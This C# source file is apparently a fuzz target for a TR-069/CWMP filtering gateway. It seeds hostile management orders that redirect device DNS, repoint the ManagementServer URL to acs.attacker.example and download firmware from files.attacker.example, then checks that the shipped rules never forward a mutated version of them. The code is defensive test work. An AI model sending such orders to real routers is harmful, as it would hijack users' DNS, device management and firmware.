using System.Text;
using System.Xml;
using CwmpShield.Core.Cwmp;
using CwmpShield.Core.Decisions;
using CwmpShield.Core.Rules;
using CwmpShield.Core.Wire;

namespace CwmpShield.Fuzz.Targets;

/// <summary>Orders that the shipped rules refuse: no mutation of one may be forwarded while it still carries what it is refused for.</summary>
internal static class OrderTarget
{
    private static readonly RuleSet Rules = RuleSetLoader.Load(Path.Combine(Seeds.Root, "rules")).Set ?? throw new InvalidOperationException("The shipped rules cannot be loaded.");

    private static readonly (string Name, string Value)[] Writes =
    [
        ("Device.DNS.Client.Server.1.DNSServer", "203.0.113.66"),
        ("InternetGatewayDevice.WANDevice.1.WANConnectionDevice.1.WANIPConnection.1.DNSServers", "203.0.113.66"),
        ("Device.ManagementServer.URL", "http://acs.attacker.example/"),
        ("InternetGatewayDevice.ManagementServer.URL", "http://acs.attacker.example/"),
    ];

    private const string Url = "http://files.attacker.example/firmware.bin";

    /// <summary>The target.</summary>
    public static FuzzTarget Orders { get; } = new()
    {
        Name = "orders",
        Seeds =
        [
            .. Writes.Select(write => Seeds.Order("SetParameterValues", $"<ParameterList soap-enc:arrayType=\"cwmp:ParameterValueStruct[2]\"><ParameterValueStruct><Name>Device.Time.Enable</Name><Value xsi:type=\"xsd:boolean\">1</Value></ParameterValueStruct><ParameterValueStruct><Name>{write.Name}</Name><Value xsi:type=\"xsd:string\">{write.Value}</Value></ParameterValueStruct></ParameterList><ParameterKey>k</ParameterKey>")),
            Seeds.Order("Download", $"<CommandKey>c</CommandKey><FileType>1 Firmware Upgrade Image</FileType><URL>{Url}</URL><Username></Username><Password></Password><FileSize>0</FileSize><TargetFileName></TargetFileName><DelaySeconds>0</DelaySeconds><SuccessURL></SuccessURL><FailureURL></FailureURL>"),
        ],
        Fragments = XmlFragments.All,
        Wraps = XmlFragments.Wraps,
        Mark = (byte)'<',
        Check = Check,
    };

    /// <summary>Whether the shipped rules let the order go on.</summary>
    public static bool Forwards(byte[] body) => Inspect(body).Decision.Forwards;

    private static Inspection Inspect(byte[] body) =>
        Inspector.Inspect(Rules, new RawMessage(Direction.AcsToCpe, body), new InspectionContext { Limits = SoapLimits.FromAcs, Now = DateTimeOffset.UnixEpoch });

    private static string? Check(byte[] body)
    {
        var inspection = Inspect(body);
        if (!inspection.Decision.Forwards)
        {
            return inspection.Decision.Reasons.Contains(RuleReason.Error, StringComparer.Ordinal) ? "the gateway failed" : inspection.Canonical.IsEmpty ? null : "refused, and written";
        }

        return inspection.Message!.IsOrder ? Carried(inspection.Canonical) : null;
    }

    /// <summary>What a device with another parser would find in the bytes that go on.</summary>
    private static string? Carried(ReadOnlyMemory<byte> canonical)
    {
        using var reader = XmlReader.Create(new StringReader(Encoding.UTF8.GetString(canonical.Span)));
        var (name, element) = ("", "");
        while (reader.Read())
        {
            if (reader.NodeType == XmlNodeType.Element)
            {
                element = reader.LocalName;
                continue;
            }

            var text = reader.NodeType == XmlNodeType.Text ? reader.Value.Trim() : "";
            name = element == "Name" && text.Length > 0 ? text : name;
            if ((element == "URL" && text == Url)
                || (element == "Value" && Writes.Any(write => string.Equals(write.Name, name, StringComparison.OrdinalIgnoreCase) && write.Value == text)))
            {
                return $"forwarded with {element} {text}";
            }
        }

        return null;
    }
}
